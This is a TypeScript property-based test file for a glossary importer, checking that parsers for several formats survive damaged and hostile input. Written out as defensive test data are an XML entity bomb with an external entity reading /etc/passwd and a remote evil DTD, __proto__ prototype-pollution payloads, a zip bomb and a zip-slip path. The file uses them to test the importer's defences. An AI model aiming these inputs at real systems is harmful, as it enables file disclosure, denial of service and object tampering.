import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { EXPORTS } from '../../../glossary/files/export.ts';
import { openReader, openSurveyor } from '../../../glossary/files/open.ts';
import { readAll } from '../../../glossary/files/read-all.ts';
import { FORMATS } from '../../../glossary/files/reading.ts';
import { parseGlossary } from '../../../glossary/format.ts';
import { bytes, bytesOf, FIXTURES } from './fixture.ts';
import { dictionary } from './made-dictionary.ts';

const files = [
  ...FIXTURES.map(({ file, format }) => ({ file, format, whole: bytesOf(file) })),
  { file: 'dictionary.zip', format: 'yomitan' as const, whole: dictionary() },
  { file: 'small.glossary.json', format: 'json' as const, whole: bytes(smallJson()) },
];

function smallJson(): string {
  const entries = ['a', 'b', 'é'].map((id) => ({
    id,
    term: `Term ${id}`,
    definition: 'What it "means".\nMore.',
  }));
  const glossary = parseGlossary({ format: 1, id: 'small', title: 'Small', entries });
  return [...EXPORTS.json.write(glossary)].join('');
}

describe.each(files)('$file', ({ format, whole }) => {
  const all = readAll(format, whole);
  const concepts = all.entries.length + all.tally.skipped;

  test('cut off at any byte, gives what stands before', () => {
    for (let length = 0; length < whole.length; length += whole.length > 3_000 ? 7 : 1) {
      const { entries } = readAll(format, whole.slice(0, length));
      expect(entries.length).toBeLessThanOrEqual(concepts);
    }
  });

  test('with any byte replaced, still reads and says where it stumbles', () => {
    fc.assert(
      fc.property(fc.nat(whole.length - 1), fc.nat(255), (at, byte) => {
        const damaged = whole.slice();
        damaged[at] = byte;
        const { entries, complaints } = readAll(format, damaged);
        // Damage that nobody sees would be an entry lost without a word.
        if (complaints.length === 0 && format !== 'tbx') expect(entries.length).toBeGreaterThanOrEqual(1);
        for (const { where, found, expected } of complaints)
          expect([where, found, expected]).not.toContain('');
      }),
      { numRuns: 300 },
    );
  });

  test('cut into pieces anyhow, reads the same', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 400 }), { minLength: 1 }), (sizes) => {
        const reader = openReader(format);
        const entries = [];
        for (let at = 0, turn = 0; at < whole.length; turn++) {
          const size = sizes[turn % sizes.length] ?? 1;
          entries.push(...reader.write(whole.slice(at, at + size)).entries);
          at += size;
        }
        entries.push(...reader.end().entries);
        expect(entries).toEqual(all.entries);
      }),
      { numRuns: 40 },
    );
  });
});

test.each(FORMATS)('anything at all is no more than complained about by %s', (format) => {
  fc.assert(
    fc.property(
      fc.oneof(fc.uint8Array({ maxLength: 600 }), fc.string({ unit: 'binary' }).map(bytes)),
      (any) => {
        const { complaints, entries } = readAll(format, any);
        expect(complaints.length + entries.length).toBeGreaterThanOrEqual(
          format === 'csv' || format === 'tsv' ? 0 : 1,
        );
        const surveyor = openSurveyor(format);
        surveyor.write(any);
        expect(surveyor.end().concepts).toBeGreaterThanOrEqual(0);
      },
    ),
  );
});

const BILLION = `<?xml version="1.0"?>
<!DOCTYPE tbx [
  <!ENTITY lol "lol">
  ${Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at} "${`&lol${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('\n')}
  <!ENTITY file SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "https://example.org/evil.dtd"> %remote;
]>
<tbx xml:lang="en"><text><body><conceptEntry id="c1"><langSec xml:lang="en">
<descrip type="definition">a &lol8; b &file; c</descrip><termSec><term>laughs</term></termSec>
</langSec></conceptEntry></body></text></tbx>`;

test('entities of a file are never resolved, and the entry is offered', () => {
  const { entries, complaints } = readAll('tbx', BILLION);
  expect(entries).toEqual([{ id: 'c1', term: 'laughs', definition: 'a &lol8; b &file; c' }]);
  expect(complaints.map(({ found }) => found)).toEqual(['a document type', 'undefined entity']);
  expect(complaints.at(-1)?.line).toBe(17);
});

describe('names that objects have of their own', () => {
  const proto =
    '{"format":1,"id":"x","title":"X","__proto__":{"polluted":1},"entries":[{"id":"constructor","term":"__proto__","definition":"d","__proto__":{"term":"y"}}]}';
  const table = '__proto__,term,definition,constructor\nx,__proto__,toString,y\n';
  const xml =
    '<tbx xml:lang="en"><body><conceptEntry id="__proto__"><langSec xml:lang="en"><descrip type="__proto__">x</descrip><descrip type="definition">d</descrip><termSec><term>__proto__</term></termSec></langSec></conceptEntry></body></tbx>';
  const turtle =
    '@prefix s: <http://www.w3.org/2004/02/skos/core#> . <__proto__> s:prefLabel "__proto__"@en ; s:definition "d"@en .';

  test.each([
    ['json', proto],
    ['csv', table],
    ['tbx', xml],
    ['turtle', turtle],
    ['yomitan', ''],
  ] as const)('are texts like others in %s', (format, text) => {
    const file =
      format === 'yomitan' ? dictionary({ rows: [['__proto__', '', '', '', 0, ['d'], 0, '']] }) : bytes(text);
    const { entries } = readAll(format, file);
    expect(entries.map(({ term }) => term)).toEqual(['__proto__']);
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    expect(Object.getPrototypeOf(entries[0])).toBe(Object.prototype);
  });
});

const HUGE = 'x'.repeat(10 * 2 ** 20);

test.each([
  [
    'json',
    `{"format":1,"id":"x","title":"X","entries":[{"id":"a","term":"A","definition":"${HUGE}"},{"id":"b","term":"B","definition":"fine"}]}`,
  ],
  ['csv', `term,definition\nA,"${HUGE}"\nB,fine\n`],
  ['tsv', `term\tdefinition\n${HUGE}\tx\nB\tfine\n`],
  [
    'tbx',
    `<tbx xml:lang="en"><conceptEntry id="a"><langSec xml:lang="en"><descrip type="definition">${HUGE}</descrip><termSec><term>A</term></termSec></langSec></conceptEntry><conceptEntry id="b"><langSec xml:lang="en"><descrip type="definition">fine</descrip><termSec><term>B</term></termSec></langSec></conceptEntry></tbx>`,
  ],
  [
    'turtle',
    `@prefix s: <http://www.w3.org/2004/02/skos/core#> .\n<a> s:prefLabel "A"@en ; s:definition "${HUGE}"@en .\n<b> s:prefLabel "B"@en ; s:definition "fine"@en .\n`,
  ],
  [
    'rdf-xml',
    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:s="http://www.w3.org/2004/02/skos/core#"><s:Concept rdf:about="a"><s:prefLabel xml:lang="en">A</s:prefLabel><s:definition xml:lang="en">${HUGE}</s:definition></s:Concept><s:Concept rdf:about="b"><s:prefLabel xml:lang="en">B</s:prefLabel><s:definition xml:lang="en">fine</s:definition></s:Concept></rdf:RDF>`,
  ],
] as const)('a text of ten megabytes costs its own entry only, in %s', (format, text) => {
  const { entries, complaints } = readAll(format, text);
  expect(entries.map(({ term, definition }) => [term, definition])).toEqual([['B', 'fine']]);
  expect(complaints).toEqual([
    expect.objectContaining({ effect: 'skipped', expected: expect.stringMatching(/^at most/) }),
  ]);
  expect(JSON.stringify(complaints).length).toBeLessThan(1_000);
});

test.each([
  ['tbx', `<tbx xml:lang="en">${'<a>'.repeat(100_000)}`, /nested/],
  ['rdf-xml', '<a b="'.padEnd(20 * 2 ** 20, 'x'), /characters/],
  ['tbx', `<tbx>${'&a;'.repeat(200_000)}`, /more than \d+ errors/],
  ['turtle', `<a> <b> ${'[ <b> '.repeat(100_000)}`, /nested/],
  ['json', '[{"id":"'.padEnd(40 * 2 ** 20, 'x'), /characters/],
] as const)('what never ends is given up: %s', (format, text, reason) => {
  const { complaints } = readAll(format, text);
  expect(complaints.some(({ found, expected }) => reason.test(found) || reason.test(expected))).toBe(true);
});

test('lists in lists in JSON cost one entry', () => {
  const deep = '['.repeat(200_000) + ']'.repeat(200_000);
  const text = `{"format":1,"id":"x","title":"X","entries":[{"id":"a","term":"A","definition":"d","forms":${deep}},{"id":"b","term":"B","definition":"d"}]}`;
  expect(readAll('json', text).entries.map(({ id }) => id)).toEqual(['b']);
});

describe('zips', () => {
  test('unpack no further than they may', () => {
    const bomb = zipSync({ 'term_bank_1.json': new Uint8Array(64 * 2 ** 20).fill(32) }, { level: 9 });
    const { entries, complaints } = readAll('yomitan', bomb, { mostUnpacked: 2 ** 20 });
    expect(entries).toEqual([]);
    expect(complaints).toContainEqual(
      expect.objectContaining({ found: 'more bytes than a dictionary may unpack to' }),
    );
  });

  test('paths in them are names and nothing more', () => {
    const zip = zipSync({ '../../term_bank_1.json': strToU8('[["a","","","",0,["d"],1,""]]') });
    const { entries, complaints } = readAll('yomitan', zip);
    expect(entries).toEqual([]);
    expect(complaints).toContainEqual(
      expect.objectContaining({ where: 'file "../../term_bank_1.json"', found: 'a path' }),
    );
  });
});

test.each([
  ['csv', 'id,term,definition\na,One,first\na,Two,second\n'],
  [
    'tbx',
    `<tbx xml:lang="en">${['One', 'Two'].map((term) => `<conceptEntry id="a"><langSec xml:lang="en"><descrip type="definition">d ${term}</descrip><termSec><term>${term}</term></termSec></langSec></conceptEntry>`).join('')}</tbx>`,
  ],
] as const)('ids that clash in %s get an addition, the same in every import', (format, text) => {
  const { entries, complaints } = readAll(format, text);
  expect(entries.map(({ term }) => term)).toEqual(['One', 'Two']);
  expect(entries.map(({ id }) => id)).toEqual(['a', expect.stringMatching(/^a-[0-9a-z]{7}$/)]);
  expect(readAll(format, text).entries).toEqual(entries);
  expect(complaints).toEqual([expect.objectContaining({ effect: 'changed', found: '"a" again' })]);
});

test('an id that stands twice in a glossary file is the error of its author', () => {
  const entry = (term: string) => `{"id":"a","term":"${term}","definition":"d"}`;
  const { entries, complaints } = readAll(
    'json',
    `{"format":1,"id":"x","title":"X","entries":[${entry('One')},\n${entry('Two')}]}`,
  );
  expect(entries.map(({ term }) => term)).toEqual(['One']);
  expect(complaints).toEqual([
    expect.objectContaining({ effect: 'skipped', line: 2, where: 'entry "a" › id' }),
  ]);
});
